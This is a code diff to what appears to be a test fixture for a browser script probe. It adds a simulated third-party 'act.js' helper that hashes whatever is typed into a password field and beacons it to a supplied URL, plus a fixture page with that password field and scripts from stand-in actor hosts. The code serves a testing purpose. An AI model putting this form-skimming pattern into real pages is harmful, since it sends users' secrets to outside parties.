@@ -658,6 +658,14 @@ const ACT_JS = `window.__act = {
   listen: function (type) { document.body.addEventListener(type, function () {}); },
   send: function (url) { return fetch(url, { mode: 'no-cors' }).catch(function () {}); },
   beacon: function (url) { return navigator.sendBeacon(url, 'x'); },
+  // What was typed in #secret, as its SHA-256 (the browser's), sent at once.
+  sendHash: function (url) {
+    return crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.getElementById('secret').value)).then(function (d) {
+      var hex = ''; var b = new Uint8Array(d);
+      for (var i = 0; i < b.length; i++) hex += (b[i] < 16 ? '0' : '') + b[i].toString(16);
+      return navigator.sendBeacon(url, hex);
+    });
+  },
 };
 `;
 // A script of a very long path (and a query): the probe reports at most 512 characters of its URL, and no query.
@@ -732,6 +740,7 @@ for (const h of [TRICKS.sink, TRICKS.ingest]) THIRD_PARTIES[h] = () => ({ status
 const tricksPage = () => `<!doctype html>
 <html lang="en"><head><meta charset="utf-8"><title>tricks – fixture</title></head><body>
 <h1>Tricks</h1>
+<form onsubmit="return false"><label>Password <input id="secret" type="password" autocomplete="off"></label></form>
 <script src="https://${TRICKS.innocent}/lib.js"></script>
 <script src="https://${TRICKS.actor}/act.js?v=3&amp;user=someone#top"></script>
 <script src="https://${TRICKS.actor}${LONG_SCRIPT_PATH}?user=someone"></script>
